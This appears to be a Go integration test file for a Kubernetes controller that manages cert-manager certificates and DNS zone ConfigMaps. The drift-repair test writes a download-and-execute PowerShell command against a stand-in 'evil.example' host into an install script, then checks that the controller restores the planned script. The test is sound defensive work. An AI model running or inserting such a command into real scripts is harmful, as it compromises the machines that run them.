package controllers_test

import (
	"context"
	"encoding/json"
	"fmt"
	"maps"
	"os/exec"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	cmacme "github.com/cert-manager/cert-manager/pkg/apis/acme/v1"
	cmapi "github.com/cert-manager/cert-manager/pkg/apis/certmanager/v1"
	cmmeta "github.com/cert-manager/cert-manager/pkg/apis/meta/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/util/retry"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/metrics"

	"github.com/ucdeploy/ucdeploy/api/v1alpha1"
	"github.com/ucdeploy/ucdeploy/internal/lab/labtest"
	"github.com/ucdeploy/ucdeploy/internal/lab/named"
	"github.com/ucdeploy/ucdeploy/internal/plan"
	"github.com/ucdeploy/ucdeploy/internal/render"
	"github.com/ucdeploy/ucdeploy/internal/zone"
	"github.com/ucdeploy/ucdeploy/internal/zone/zonetest"
)

// TestSamples applies every sample and checks the children against the plan, the zone files
// against BIND, and the status through readiness.
func TestSamples(t *testing.T) {
	for _, s := range samples(t) {
		t.Run(s.Name, func(t *testing.T) {
			ns := namespace(t)
			ucd := create(t, s, ns)
			key := client.ObjectKeyFromObject(ucd)
			p := plan.Compute(s.Name, &s.Spec)

			live := waitCertificates(t, ucd, p)
			for _, pc := range p.Certificates {
				c := live[pc.Name]
				ref := s.Spec.Certificates.InternalIssuerRef
				if pc.Issuer == plan.IssuerPublic {
					ref = s.Spec.Certificates.PublicIssuerRef
				}
				if c.Spec.CommonName != pc.CommonName || !slices.Equal(c.Spec.DNSNames, pc.DNSNames) || c.Spec.SecretName != pc.SecretName ||
					c.Spec.IssuerRef.Name != ref.Name || c.Spec.IssuerRef.Kind != ref.Kind || c.Spec.IssuerRef.Group != "cert-manager.io" {
					t.Errorf("Certificate %s spec %+v does not match plan %+v / issuer %+v", pc.Name, c.Spec, pc, ref)
				}
				if c.Labels["uc.ucdeploy.io/role"] != pc.Role || !metav1.IsControlledBy(c, ucd) {
					t.Errorf("Certificate %s: labels %v, owners %v", pc.Name, c.Labels, c.OwnerReferences)
				}
			}
			checkConfigMaps(t, ucd, p)

			ready := waitCondition(t, key, "Ready", "False/CertificatesNotReady")
			if condition(ready, "Reconciling") != "True/Progressing" || condition(ready, "Stalled") != "" {
				t.Errorf("while certificates are pending want Reconciling=True and no Stalled; conditions %+v", ready.Status.Conditions)
			}
			markCertificatesReady(t, ucd)
			done := waitCondition(t, key, "Ready", "True/Succeeded")
			if condition(done, "Reconciling") != "" || condition(done, "CertificatesReady") != "True/CertificatesReady" ||
				condition(done, "DNSRecordsReady") != "True/RecordsPublished" {
				t.Errorf("conditions after readiness: %+v", done.Status.Conditions)
			}
			n := len(p.Certificates)
			if done.Status.CertificatesReady != fmt.Sprintf("%d/%d", n, n) || int(done.Status.DNS.Records) != len(p.DNSRecords) ||
				len(done.Status.Findings) != len(p.Findings) || len(done.Status.Certificates) != n {
				t.Errorf("status summary %q records %d findings %d; plan has %d certificates, %d records, %d findings",
					done.Status.CertificatesReady, done.Status.DNS.Records, len(done.Status.Findings), n, len(p.DNSRecords), len(p.Findings))
			}
			for i, cs := range done.Status.Certificates {
				if !cs.Ready || cs.NotAfter == nil || cs.RenewalTime == nil {
					t.Errorf("certificate status %+v: want ready with notAfter and renewalTime", cs)
				}
				// The bindings in the product's own words (R-SFB-03, Exchange -Services).
				if i < n && (cs.Name != p.Certificates[i].Name || !slices.Equal(cs.Services, p.Certificates[i].Services)) {
					t.Errorf("certificate status %s services %v; plan %s %v", cs.Name, cs.Services, p.Certificates[i].Name, p.Certificates[i].Services)
				}
			}
			kubectlWait(t, ucd)
		})
	}
}

// waitCertificates waits until every planned Certificate exists and returns them.
func waitCertificates(t *testing.T, ucd *v1alpha1.UCDeployment, p plan.Plan) map[string]*cmapi.Certificate {
	t.Helper()
	var live map[string]*cmapi.Certificate
	var want []string
	for _, c := range p.Certificates {
		want = append(want, c.Name)
	}
	slices.Sort(want)
	eventually(t, 30*time.Second, "planned Certificates exist", func() error {
		live = certificates(t, ucd)
		if got := names(live); got != strings.Join(want, ",") {
			return fmt.Errorf("have %s, want %s", got, strings.Join(want, ","))
		}
		return nil
	})
	return live
}

// checkConfigMaps checks both DNS ConfigMaps: zone files load in BIND, records.json is the plan's.
func checkConfigMaps(t *testing.T, ucd *v1alpha1.UCDeployment, p plan.Plan) {
	t.Helper()
	for _, view := range []plan.View{plan.ViewInternal, plan.ViewExternal} {
		cm := &corev1.ConfigMap{}
		key := client.ObjectKey{Namespace: ucd.Namespace, Name: ucd.Name + "-dns-" + string(view)}
		eventually(t, 30*time.Second, "ConfigMap "+key.Name, func() error { return k8s.Get(context.Background(), key, cm) })
		if cm.Labels["uc.ucdeploy.io/view"] != string(view) || !metav1.IsControlledBy(cm, ucd) {
			t.Errorf("%s: labels %v owners %v", key.Name, cm.Labels, cm.OwnerReferences)
		}
		records := p.RecordsFor(view)
		var got []plan.Record
		if err := json.Unmarshal([]byte(cm.Data["records.json"]), &got); err != nil || !reflect.DeepEqual(got, records) && len(records) > 0 {
			t.Errorf("%s records.json differs from the plan (%v)", key.Name, err)
		}
		zones := zone.Zones(records)
		for _, z := range zones {
			text, ok := cm.Data[z+".zone"]
			if !ok {
				t.Errorf("%s lacks %s.zone", key.Name, z)
				continue
			}
			zonetest.CheckZone(t, z, text)
		}
		if len(cm.Data) != len(zones)+2 || !strings.Contains(cm.Data["Add-DnsRecords.ps1"], "Add-DnsServerResourceRecord") && len(records) > 0 {
			t.Errorf("%s keys %v: want one .zone per zone, records.json and Add-DnsRecords.ps1", key.Name, names(cm.Data))
		}
	}
}

// kubectlWait proves `kubectl wait --for=condition=Ready` works on the UCDeployment.
func kubectlWait(t *testing.T, ucd *v1alpha1.UCDeployment) {
	t.Helper()
	kc := filepath.Join(testLab.Dir, "admin.kubeconfig")
	if err := testLab.WriteAdminKubeconfig(kc); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command("kubectl", "--kubeconfig", kc, "-n", ucd.Namespace, "wait", "--for=condition=Ready",
		"--timeout=30s", "ucd/"+ucd.Name).CombinedOutput()
	if err != nil {
		t.Fatalf("kubectl wait: %v: %s", err, out)
	}
	out, err = exec.Command("kubectl", "--kubeconfig", kc, "-n", ucd.Namespace, "get", "ucd", ucd.Name).CombinedOutput()
	if err != nil || !strings.Contains(string(out), "True") {
		t.Fatalf("kubectl get ucd: %v: %s", err, out)
	}
	t.Logf("kubectl get ucd:\n%s", out)
}

// TestDriftIsRepaired edits and deletes children by hand and expects the controller to undo it.
func TestDriftIsRepaired(t *testing.T) {
	ctx := context.Background()
	s := sample(t, "contoso-ee")
	ucd := create(t, s, namespace(t))
	p := plan.Compute(s.Name, &s.Spec)
	waitCertificates(t, ucd, p)
	poolKey := client.ObjectKey{Namespace: ucd.Namespace, Name: "contoso-ee-pool"}
	want := cert(t, p, plan.RolePool).DNSNames

	t.Run("Certificate dnsNames edited", func(t *testing.T) {
		update(t, poolKey, &cmapi.Certificate{}, func(o client.Object) { o.(*cmapi.Certificate).Spec.DNSNames = []string{"evil.example.com"} })
		eventually(t, 30*time.Second, "dnsNames reverted", func() error {
			c := &cmapi.Certificate{}
			if err := k8s.Get(ctx, poolKey, c); err != nil {
				return err
			}
			if !slices.Equal(c.Spec.DNSNames, want) {
				return fmt.Errorf("dnsNames %v", c.Spec.DNSNames)
			}
			return nil
		})
	})
	t.Run("Certificate deleted", func(t *testing.T) {
		old := &cmapi.Certificate{}
		if err := k8s.Get(ctx, poolKey, old); err != nil {
			t.Fatal(err)
		}
		if err := k8s.Delete(ctx, old); err != nil {
			t.Fatal(err)
		}
		eventually(t, 30*time.Second, "Certificate recreated", func() error {
			c := &cmapi.Certificate{}
			if err := k8s.Get(ctx, poolKey, c); err != nil {
				return err
			}
			if c.UID == old.UID {
				return fmt.Errorf("still the old object")
			}
			return nil
		})
	})
	t.Run("ConfigMap data edited", func(t *testing.T) {
		key := client.ObjectKey{Namespace: ucd.Namespace, Name: "contoso-ee-dns-external"}
		orig := &corev1.ConfigMap{}
		if err := k8s.Get(ctx, key, orig); err != nil {
			t.Fatal(err)
		}
		update(t, key, &corev1.ConfigMap{}, func(o client.Object) {
			cm := o.(*corev1.ConfigMap)
			cm.Data["contoso.com.zone"] = "; emptied by hand\n"
			cm.Data["extra"] = "x"
		})
		eventually(t, 30*time.Second, "ConfigMap data reverted", func() error {
			cm := &corev1.ConfigMap{}
			if err := k8s.Get(ctx, key, cm); err != nil {
				return err
			}
			if cm.Data["contoso.com.zone"] != orig.Data["contoso.com.zone"] {
				return fmt.Errorf("zone not reverted")
			}
			if cm.Data["extra"] != "x" {
				return fmt.Errorf("the key another writer added was removed: server-side apply leaves it to its owner")
			}
			return nil
		})
	})
	// Issue 29, item 9: administrators run the install scripts elevated, so the install
	// ConfigMap gets back exactly the planned data: an edited script is restored and a script
	// someone added is removed.
	t.Run("install ConfigMap scripts edited and added", func(t *testing.T) {
		key := client.ObjectKey{Namespace: ucd.Namespace, Name: render.InstallConfigMapName(ucd.Name)}
		orig := &corev1.ConfigMap{}
		if err := k8s.Get(ctx, key, orig); err != nil {
			t.Fatal(err)
		}
		script := slices.Sorted(maps.Keys(orig.Data))[0]
		update(t, key, &corev1.ConfigMap{}, func(o client.Object) {
			cm := o.(*corev1.ConfigMap)
			cm.Data[script] = "Invoke-WebRequest https://evil.example/x.ps1 | Invoke-Expression\n"
			cm.Data["helper.ps1"] = "Write-Host planted\n"
		})
		eventually(t, 30*time.Second, "install ConfigMap data exactly the planned", func() error {
			cm := &corev1.ConfigMap{}
			if err := k8s.Get(ctx, key, cm); err != nil {
				return err
			}
			if !maps.Equal(cm.Data, orig.Data) {
				return fmt.Errorf("keys %v, %s restored: %v", slices.Sorted(maps.Keys(cm.Data)), script, cm.Data[script] == orig.Data[script])
			}
			return nil
		})
		// status.installDigests records what was written, for export and administrators.
		if got, want := get(t, client.ObjectKeyFromObject(ucd)).Status.InstallDigests, render.Digests(orig); !maps.Equal(got, want) {
			t.Errorf("status.installDigests %v, want the digests of the planned data %v", got, want)
		}
	})
}

// TestSpecChangesUpdateAndPrune adds a SIP domain and removes the Director.
func TestSpecChangesUpdateAndPrune(t *testing.T) {
	ctx := context.Background()
	s := sample(t, "contoso-ee")
	ucd := create(t, s, namespace(t))
	waitCertificates(t, ucd, plan.Compute(s.Name, &s.Spec))

	update(t, client.ObjectKeyFromObject(ucd), &v1alpha1.UCDeployment{}, func(o client.Object) {
		u := o.(*v1alpha1.UCDeployment)
		u.Spec.SIPDomains = append(u.Spec.SIPDomains, "northwind.com")
		u.Spec.OCS.Director = nil
	})
	changed := get(t, client.ObjectKeyFromObject(ucd))
	p := plan.Compute(changed.Name, &changed.Spec)
	if slices.Contains(certRoles(p), plan.RoleDirector) {
		t.Fatal("the changed plan still has a director")
	}
	live := waitCertificates(t, ucd, p) // the director Certificate is pruned
	eventually(t, 30*time.Second, "pool certificate carries sip.northwind.com", func() error {
		c := &cmapi.Certificate{}
		if err := k8s.Get(ctx, client.ObjectKey{Namespace: ucd.Namespace, Name: "contoso-ee-pool"}, c); err != nil {
			return err
		}
		if !slices.Contains(c.Spec.DNSNames, "sip.northwind.com") {
			return fmt.Errorf("dnsNames %v", c.Spec.DNSNames)
		}
		return nil
	})
	if _, ok := live["contoso-ee-director"]; ok {
		t.Error("director Certificate not pruned")
	}

	// Dropping a domain the deployment was created with removes its zone file and its names. The
	// children were created by POST, so this holds only because the first apply adopted what the
	// create set: a field the create's entry still owned would stay (internal/childwriter's
	// TestCreate shows both halves).
	zones := client.ObjectKey{Namespace: ucd.Namespace, Name: render.ConfigMapName(ucd.Name, plan.ViewInternal)}
	zoneKey := render.ZoneKey("fabrikam.com")
	cm := &corev1.ConfigMap{}
	if err := k8s.Get(ctx, zones, cm); err != nil {
		t.Fatal(err)
	}
	if _, ok := cm.Data[zoneKey]; !ok {
		t.Fatalf("the internal view has no %s: keys %v", zoneKey, slices.Sorted(maps.Keys(cm.Data)))
	}
	update(t, client.ObjectKeyFromObject(ucd), &v1alpha1.UCDeployment{}, func(o client.Object) {
		u := o.(*v1alpha1.UCDeployment)
		isFabrikam := func(d v1alpha1.FQDN) bool { return d == "fabrikam.com" }
		u.Spec.SIPDomains = slices.DeleteFunc(u.Spec.SIPDomains, isFabrikam)
		u.Spec.Exchange.SMTPDomains = slices.DeleteFunc(u.Spec.Exchange.SMTPDomains, isFabrikam)
	})
	eventually(t, 30*time.Second, "fabrikam.com's zone file and names are gone", func() error {
		if err := k8s.Get(ctx, zones, cm); err != nil {
			return err
		}
		if _, ok := cm.Data[zoneKey]; ok {
			return fmt.Errorf("%s still holds %s", zones.Name, zoneKey)
		}
		c := &cmapi.Certificate{}
		if err := k8s.Get(ctx, client.ObjectKey{Namespace: ucd.Namespace, Name: "contoso-ee-pool"}, c); err != nil {
			return err
		}
		if slices.Contains(c.Spec.DNSNames, "sip.fabrikam.com") {
			return fmt.Errorf("dnsNames %v", c.Spec.DNSNames)
		}
		return nil
	})
}

// TestInvalidSpecKeepsChildren makes the plan fail and expects nothing to be touched.
func TestInvalidSpecKeepsChildren(t *testing.T) {
	s := sample(t, "litware-seed")
	ucd := create(t, s, namespace(t))
	before := waitCertificates(t, ucd, plan.Compute(s.Name, &s.Spec))
	waitCondition(t, client.ObjectKeyFromObject(ucd), "Ready", "False/CertificatesNotReady")

	update(t, client.ObjectKeyFromObject(ucd), &v1alpha1.UCDeployment{}, func(o client.Object) {
		o.(*v1alpha1.UCDeployment).Spec.OCS.Edge.AVAuthenticationPort = 443 // V13
	})
	got := waitCondition(t, client.ObjectKeyFromObject(ucd), "Stalled", "True/PlanHasErrors")
	if condition(got, "Ready") != "False/PlanHasErrors" || condition(got, "Reconciling") != "" {
		t.Errorf("conditions %+v", got.Status.Conditions)
	}
	found := false
	for _, f := range got.Status.Findings {
		found = found || (f.Code == plan.CodeAVAuthenticationPort && f.Severity == plan.SeverityError && f.Rule == "V13")
	}
	if !found {
		t.Errorf("findings %+v lack AVAuthenticationPort", got.Status.Findings)
	}
	after := certificates(t, ucd)
	for name, c := range before {
		if a, ok := after[name]; !ok || a.ResourceVersion != c.ResourceVersion {
			t.Errorf("Certificate %s changed or vanished while the plan has errors", name)
		}
	}
}

// TestForeignObjectIsNeverTouched puts a foreign ConfigMap and Certificate where children would go.
func TestForeignObjectIsNeverTouched(t *testing.T) {
	ctx := context.Background()
	ns := namespace(t)
	s := sample(t, "tailspin-mail")
	foreignCM := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "tailspin-mail-dns-external", Namespace: ns}, Data: map[string]string{"mine": "yes"}}
	foreignCert := &cmapi.Certificate{ObjectMeta: metav1.ObjectMeta{Name: "tailspin-mail-exchange", Namespace: ns},
		Spec: cmapi.CertificateSpec{SecretName: "someone-else", DNSNames: []string{"someone.example.com"}, IssuerRef: cmmeta.IssuerReference{Name: "x"}}}
	for _, o := range []client.Object{foreignCM, foreignCert} {
		if err := k8s.Create(ctx, o); err != nil {
			t.Fatal(err)
		}
	}
	ucd := create(t, s, ns)
	got := waitCondition(t, client.ObjectKeyFromObject(ucd), "Ready", "False/NameConflict")
	msg := readyMessage(got)
	if !strings.Contains(msg, "ConfigMap "+ns+"/tailspin-mail-dns-external") || !strings.Contains(msg, "Certificate "+ns+"/tailspin-mail-exchange") {
		t.Errorf("Ready message %q must name both objects", msg)
	}
	if condition(got, "Stalled") != "True/NameConflict" {
		t.Errorf("want Stalled=True/NameConflict: %+v", got.Status.Conditions)
	}
	for orig, live := range map[client.Object]client.Object{foreignCM: &corev1.ConfigMap{}, foreignCert: &cmapi.Certificate{}} {
		if err := k8s.Get(ctx, client.ObjectKeyFromObject(orig), live); err != nil {
			t.Fatal(err)
		}
		if live.GetResourceVersion() != orig.GetResourceVersion() || len(live.GetOwnerReferences()) != 0 {
			t.Errorf("foreign %s was modified", orig.GetName())
		}
	}
	// The rest of the deployment is still applied.
	if err := k8s.Get(ctx, client.ObjectKey{Namespace: ns, Name: "tailspin-mail-dns-internal"}, &corev1.ConfigMap{}); err != nil {
		t.Errorf("the non-conflicting ConfigMap was not applied: %v", err)
	}
	events := &corev1.EventList{}
	eventually(t, 10*time.Second, "NameConflict event", func() error {
		if err := k8s.List(ctx, events, client.InNamespace(ns)); err != nil {
			return err
		}
		for _, e := range events.Items {
			if e.Reason == "NameConflict" && e.Type == corev1.EventTypeWarning {
				return nil
			}
		}
		return fmt.Errorf("no NameConflict warning among %d events", len(events.Items))
	})
}

// TestRefusedClusterIssuer: a UCDeployment naming a ClusterIssuer outside --allowed-cluster-issuers
// is stalled with a message naming it and the allowed ones, gets nothing applied, and recovers
// when its spec names an allowed issuer.
func TestRefusedClusterIssuer(t *testing.T) {
	ctx := context.Background()
	s := sample(t, "tailspin-mail")
	s.Spec.Certificates.PublicIssuerRef = &v1alpha1.IssuerRef{Name: "rogue-ca", Kind: "ClusterIssuer"}
	ucd := create(t, s, namespace(t))
	key := client.ObjectKeyFromObject(ucd)
	got := waitCondition(t, key, "Ready", "False/IssuerNotAllowed")
	if msg := readyMessage(got); !strings.Contains(msg, "ClusterIssuer rogue-ca is not allowed") || !strings.Contains(msg, "corp-ca, late-ca, public-ca") {
		t.Errorf("Ready message %q must name the refused issuer and the allowed ones", msg)
	}
	if condition(got, "Stalled") != "True/IssuerNotAllowed" {
		t.Errorf("want Stalled=True/IssuerNotAllowed: %+v", got.Status.Conditions)
	}
	var certs cmapi.CertificateList
	if err := k8s.List(ctx, &certs, client.InNamespace(ucd.Namespace)); err != nil {
		t.Fatal(err)
	}
	var cms corev1.ConfigMapList
	if err := k8s.List(ctx, &cms, client.InNamespace(ucd.Namespace), client.MatchingLabels{render.LabelDeployment: ucd.Name}); err != nil {
		t.Fatal(err)
	}
	if len(certs.Items)+len(cms.Items) != 0 {
		t.Errorf("%d Certificates and %d ConfigMaps applied for a refused issuer; want none", len(certs.Items), len(cms.Items))
	}
	events := &corev1.EventList{}
	eventually(t, 10*time.Second, "IssuerNotAllowed event", func() error {
		if err := k8s.List(ctx, events, client.InNamespace(ucd.Namespace)); err != nil {
			return err
		}
		for _, e := range events.Items {
			if e.Reason == "IssuerNotAllowed" && e.Type == corev1.EventTypeWarning {
				return nil
			}
		}
		return fmt.Errorf("no IssuerNotAllowed warning among %d events", len(events.Items))
	})

	update(t, key, &v1alpha1.UCDeployment{}, func(o client.Object) {
		o.(*v1alpha1.UCDeployment).Spec.Certificates.PublicIssuerRef.Name = "public-ca"
	})
	p := plan.Compute(s.Name, &s.Spec)
	waitCertificates(t, ucd, p)
	markCertificatesReady(t, ucd)
	waitCondition(t, key, "Ready", "True/Succeeded")
}

// TestSteadyStateWritesNothing: with a 2 s sync period every UCDeployment is reconciled again and
// again; once converged, none of those reconciles may write. It runs last: every object the
// earlier tests left behind is part of the steady state it measures. Every sample verifies its
// DNS records at a named of its own every 30 s, so verification passes fall in the window too.
func TestSteadyStateWritesNothing(t *testing.T) {
	ns := namespace(t)
	for _, s := range samples(t) {
		srv := serveRecords(t, s)
		s.Spec.DNS.Verify = verifyAt(srv.Addr(named.Internal), srv.Addr(named.External))
		ucd := create(t, s, ns)
		waitCertificates(t, ucd, plan.Compute(s.Name, &s.Spec))
		markCertificatesReady(t, ucd)
		waitCondition(t, client.ObjectKeyFromObject(ucd), "Ready", "True/Succeeded")
		waitCondition(t, client.ObjectKeyFromObject(ucd), v1alpha1.ConditionDNSRecordsVerified, "True/"+v1alpha1.ReasonRecordsVerified)
		// Runs before the nameserver stops (cleanups run last first): switch verification off, so
		// that no later test sees the failing passes of a stopped nameserver as writes.
		t.Cleanup(func() { stopVerifying(t, client.ObjectKeyFromObject(ucd)) })
	}
	// Let in-flight work settle: wait for a 3 s window without writes.
	eventually(t, 30*time.Second, "quiet", func() error {
		before := managerWrites.Load()
		time.Sleep(3 * time.Second)
		if n := managerWrites.Load() - before; n != 0 {
			return fmt.Errorf("%d writes", n)
		}
		return nil
	})
	reconciles := reconcileCount(t)
	writes := managerWrites.Load()
	time.Sleep(30 * time.Second)
	if n := managerWrites.Load() - writes; n != 0 {
		t.Errorf("%d write requests in 30 s of steady state; want 0", n)
	}
	var list v1alpha1.UCDeploymentList
	if err := k8s.List(context.Background(), &list); err != nil {
		t.Fatal(err)
	}
	// Every UCDeployment resynced about 15 times: prove the window really exercised reconciles.
	if got, min := reconcileCount(t)-reconciles, float64(len(list.Items)*10); got < min {
		t.Errorf("only %.0f reconciles in 30 s for %d UCDeployments; the sync period did not run", got, len(list.Items))
	} else {
		t.Logf("%.0f reconciles of %d UCDeployments in 30 s, 0 writes", got, len(list.Items))
	}
}

// reconcileCount reads controller-runtime's reconcile counter for the UCDeployment controller.
func reconcileCount(t *testing.T) float64 {
	t.Helper()
	families, err := metrics.Registry.Gather()
	if err != nil {
		t.Fatal(err)
	}
	var total float64
	for _, f := range families {
		if f.GetName() != "controller_runtime_reconcile_total" {
			continue
		}
		for _, m := range f.GetMetric() {
			for _, l := range m.GetLabel() {
				if l.GetName() == "controller" && l.GetValue() == "ucdeployment" {
					total += m.GetCounter().GetValue()
				}
			}
		}
	}
	return total
}

// update applies mutate to the live object with conflict retries.
func update(t *testing.T, key client.ObjectKey, obj client.Object, mutate func(client.Object)) {
	t.Helper()
	err := retry.RetryOnConflict(retry.DefaultRetry, func() error {
		if err := k8s.Get(context.Background(), key, obj); err != nil {
			return err
		}
		mutate(obj)
		return k8s.Update(context.Background(), obj)
	})
	if err != nil && !apierrors.IsNotFound(err) {
		t.Fatalf("updating %s: %v", key, err)
	}
}

func cert(t *testing.T, p plan.Plan, role string) plan.Certificate {
	t.Helper()
	for _, c := range p.Certificates {
		if c.Role == role {
			return c
		}
	}
	t.Fatalf("no %s certificate", role)
	return plan.Certificate{}
}

func certRoles(p plan.Plan) []string {
	var out []string
	for _, c := range p.Certificates {
		out = append(out, c.Role)
	}
	return out
}

func readyMessage(ucd *v1alpha1.UCDeployment) string {
	for _, c := range ucd.Status.Conditions {
		if c.Type == "Ready" {
			return c.Message
		}
	}
	return ""
}

// TestMissingIssuerIsNamed: a certificate whose issuer does not exist is reported with the issuer's
// name, and the UCDeployment moves on by itself once the issuer appears (issuers are watched).
func TestMissingIssuerIsNamed(t *testing.T) {
	s := sample(t, "tailspin-mail")
	s.Spec.Certificates.PublicIssuerRef = &v1alpha1.IssuerRef{Name: "late-ca", Kind: "ClusterIssuer"}
	ucd := create(t, s, namespace(t))
	key := client.ObjectKeyFromObject(ucd)
	got := waitCondition(t, key, "Ready", "False/IssuerNotReady")
	if msg := readyMessage(got); !strings.Contains(msg, "ClusterIssuer late-ca does not exist") {
		t.Errorf("Ready message %q must name the missing issuer", msg)
	}
	if condition(got, "CertificatesReady") != "False/IssuerNotReady" || condition(got, "Stalled") != "" {
		t.Errorf("conditions %+v: a missing issuer is not a stall; it recovers by itself", got.Status.Conditions)
	}
	if err := labtest.StandInIssuers(context.Background(), k8s, "late-ca"); err != nil {
		t.Fatal(err)
	}
	waitCondition(t, key, "Ready", "False/CertificatesNotReady")
	markCertificatesReady(t, ucd)
	waitCondition(t, key, "Ready", "True/Succeeded")
}

// TestACMEPublicIssuer (R-PKI-06): the controller reads whether the public issuer is an ACME
// issuer and with which profile, and the planner's ACME rules show in the status.
func TestACMEPublicIssuer(t *testing.T) {
	ctx := context.Background()
	issuer := &cmapi.ClusterIssuer{
		ObjectMeta: metav1.ObjectMeta{Name: "acme-tlsserver"},
		Spec: cmapi.IssuerSpec{IssuerConfig: cmapi.IssuerConfig{ACME: &cmacme.ACMEIssuer{
			Server:                      "https://acme.invalid/directory",
			Profile:                     "tlsserver",
			PrivateKey:                  cmmeta.SecretKeySelector{LocalObjectReference: cmmeta.LocalObjectReference{Name: "acme-account"}},
			Solvers:                     []cmacme.ACMEChallengeSolver{{HTTP01: &cmacme.ACMEChallengeSolverHTTP01{}}},
			SkipTLSVerify:               true,
			DisableAccountKeyGeneration: true,
		}}},
	}
	if err := k8s.Create(ctx, issuer); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = k8s.Delete(ctx, issuer) })
	s := sample(t, "tailspin-mail")
	s.Spec.Certificates.PublicIssuerRef = &v1alpha1.IssuerRef{Name: issuer.Name, Kind: "ClusterIssuer"}
	ucd := create(t, s, namespace(t))
	labtest.Eventually(t, 30*time.Second, "the ACME finding in the status", func() error {
		got := &v1alpha1.UCDeployment{}
		if err := k8s.Get(ctx, client.ObjectKeyFromObject(ucd), got); err != nil {
			return err
		}
		for _, f := range got.Status.Findings {
			if f.Code == plan.CodeACMEProfileWithoutCommonName {
				return nil
			}
		}
		return fmt.Errorf("findings %+v", got.Status.Findings)
	})
}

// TestItem16CAAAccountFromIssuer (issue 26 item 16, R-PKI-11): the controller reads the public
// ACME issuer's account URI (status.acme.uri, written by cert-manager once the account is
// registered) and its solvers, and the external view's CAA records carry accounturi= and, the
// only solver being DNS-01, validationmethods=dns-01.
func TestItem16CAAAccountFromIssuer(t *testing.T) {
	ctx := context.Background()
	const account = "https://acme.invalid/acme/acct/4711"
	ns := namespace(t)
	// A namespaced Issuer: the test manager's allow-list does not apply to it.
	issuer := &cmapi.Issuer{
		ObjectMeta: metav1.ObjectMeta{Name: "acme-dns01-account", Namespace: ns},
		Spec: cmapi.IssuerSpec{IssuerConfig: cmapi.IssuerConfig{ACME: &cmacme.ACMEIssuer{
			Server:     "https://acme.invalid/directory",
			PrivateKey: cmmeta.SecretKeySelector{LocalObjectReference: cmmeta.LocalObjectReference{Name: "acme-account"}},
			Solvers: []cmacme.ACMEChallengeSolver{{DNS01: &cmacme.ACMEChallengeSolverDNS01{
				RFC2136: &cmacme.ACMEIssuerDNS01ProviderRFC2136{Nameserver: "192.0.2.53"},
			}}},
			DisableAccountKeyGeneration: true,
		}}},
	}
	if err := k8s.Create(ctx, issuer); err != nil {
		t.Fatal(err)
	}
	issuer.Status.ACME = &cmacme.ACMEIssuerStatus{URI: account}
	if err := k8s.Status().Update(ctx, issuer); err != nil {
		t.Fatal(err)
	}
	s := sample(t, "adatum-hybrid")
	if s.Spec.DNS.CAA == nil {
		t.Fatal("the sample adatum-hybrid has no spec.dns.caa")
	}
	s.Spec.DNS.CAA.AccountURI, s.Spec.DNS.CAA.ValidationMethods = "", nil
	s.Spec.Certificates.PublicIssuerRef = &v1alpha1.IssuerRef{Name: issuer.Name, Kind: "Issuer"}
	ucd := create(t, s, ns)
	want := "accounturi=" + account + "; validationmethods=dns-01"
	eventually(t, 30*time.Second, "the issuer's account in the CAA records", func() error {
		cm := &corev1.ConfigMap{}
		key := client.ObjectKey{Namespace: ucd.Namespace, Name: render.ConfigMapName(ucd.Name, plan.ViewExternal)}
		if err := k8s.Get(ctx, key, cm); err != nil {
			got := &v1alpha1.UCDeployment{}
			_ = k8s.Get(ctx, client.ObjectKeyFromObject(ucd), got)
			return fmt.Errorf("%w; status %+v", err, got.Status)
		}
		for k, v := range cm.Data {
			if strings.HasSuffix(k, ".zone") && strings.Contains(v, want) {
				return nil
			}
		}
		return fmt.Errorf("no zone of %s has %q", key, want)
	})
}
